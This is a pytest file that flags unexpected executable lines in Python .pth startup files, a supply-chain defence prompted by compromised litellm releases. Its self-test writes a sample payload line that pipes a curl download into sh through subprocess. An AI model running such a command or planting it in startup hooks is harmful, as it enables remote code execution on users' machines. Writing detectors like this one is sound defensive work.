"""Supply chain: no unexpected code runs at interpreter start-up through ``.pth`` files.

``site`` executes every line of a ``.pth`` file in site-packages that starts with
``import`` (followed by a space or a tab) each time Python starts — which is how compromised
releases (for example litellm 1.82.7 and 1.82.8) ran their payload. Legitimate uses are few:
editable installs and setuptools' distutils shim. Any other executable line fails this test.
"""

from __future__ import annotations

import re
import site
import sys
import sysconfig
from pathlib import Path

#: (file-name pattern, executable-line pattern) pairs that are allowed.
ALLOWED: tuple[tuple[str, str], ...] = (
    # setuptools: prefer its bundled distutils
    (r"distutils-precedence\.pth",
     r"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os\.environ\.get\(var, "
     r"'local'\) == 'local'; enabled and __import__\('_distutils_hack'\)\.add_shim\(\); ?"),
    # setuptools editable installs (PEP 660 finder)
    (r"__editable__\.[\w.+-]+\.pth",
     r"import (__editable___[\w]+_finder); \1\.install\([^()]*\)"),
    # hatchling / editables editable installs
    (r"_[\w]+\.pth", r"import (_editable_impl_[\w]+|_[\w]+_editable)"),
)


def site_package_dirs() -> list[Path]:
    dirs = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}
    dirs.update(getattr(site, "getsitepackages", list)())
    return sorted(Path(d) for d in dirs if Path(d).is_dir())


def executable_lines(pth: Path) -> list[str]:
    """The lines of a ``.pth`` file that ``site`` would execute (same test as ``site``)."""
    text = pth.read_text(encoding="utf-8", errors="replace")
    return [line.rstrip("\r\n") for line in text.splitlines()
            if line.startswith(("import ", "import\t"))]


def unexpected_lines(folders: list[Path]) -> list[str]:
    problems = []
    for folder in folders:
        for pth in sorted(folder.glob("*.pth")):
            for line in executable_lines(pth):
                if not any(re.fullmatch(name, pth.name) and re.fullmatch(code, line.strip())
                           for name, code in ALLOWED):
                    problems.append(f"{pth}: {line[:200]}")
    return problems


def test_no_unexpected_executable_pth_lines():
    folders = site_package_dirs()
    assert any(sys.prefix in str(f) for f in folders)
    assert unexpected_lines(folders) == []


def test_the_check_catches_a_payload_and_allows_the_known_forms(tmp_path):
    (tmp_path / "litellm_init.pth").write_text(
        "import os, subprocess; subprocess.Popen(['sh', '-c', 'curl x | sh'])\n")
    (tmp_path / "tab.pth").write_text("import\tbase64\n")
    (tmp_path / "paths.pth").write_text("/some/path\n# import comment\n")
    (tmp_path / "distutils-precedence.pth").write_text(
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') "
        "== 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    (tmp_path / "__editable__.accordkit-0.1.0.pth").write_text(
        "import __editable___accordkit_0_1_0_finder; "
        "__editable___accordkit_0_1_0_finder.install('/work/main/accordkit')\n")
    (tmp_path / "_editable_impl_accordkit.pth").write_text("/work/main\n")
    # an allowed *form* in the wrong file is still flagged
    (tmp_path / "evil.pth").write_text("import _editable_impl_x\n")
    assert sorted(p.split(": ", 1)[0].rsplit("/", 1)[1] for p in unexpected_lines([tmp_path])) \
        == ["evil.pth", "litellm_init.pth", "tab.pth"]
